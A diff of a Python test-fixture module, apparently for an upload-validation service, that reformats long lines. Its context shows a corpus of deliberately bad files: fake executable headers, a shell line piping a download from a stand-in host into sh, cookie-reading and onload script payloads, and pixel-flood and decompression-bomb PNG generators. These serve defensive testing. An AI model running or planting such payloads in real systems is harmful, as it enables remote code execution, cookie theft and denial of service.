@@ -29,7 +29,9 @@ def jpeg(width: int = 64, height: int = 32, *, gps: bool = False, orientation: i
     image = Image.new("RGB", (width, height), color)
     image.paste(Image.new("RGB", (width // 4, height), "blue"))  # a left stripe, to see rotation
     buffer = io.BytesIO()
-    extra = {"exif": _exif_with_gps(orientation).tobytes(), "comment": SECRET_COMMENT} if gps or orientation != 1 else {}
+    extra = (
+        {"exif": _exif_with_gps(orientation).tobytes(), "comment": SECRET_COMMENT} if gps or orientation != 1 else {}
+    )
     image.save(buffer, "JPEG", quality=90, **extra)
     return buffer.getvalue()
 
@@ -98,7 +100,9 @@ TEXT = "Reflections after the safeguarding course.\nI learned how to escalate a 
 # --- The bad-file corpus ------------------------------------------------------------------
 
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
-WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 64
+WINDOWS_EXE = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 64
+)
 SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
 HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>\n"
 SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
@@ -128,7 +132,12 @@ def pixel_flood_png(width: int = 100_000, height: int = 100_000) -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
     header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", header)
+        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
+        + chunk(b"IEND", b"")
+    )
 
 
 def decompression_bomb_png(side: int = 2000) -> bytes:
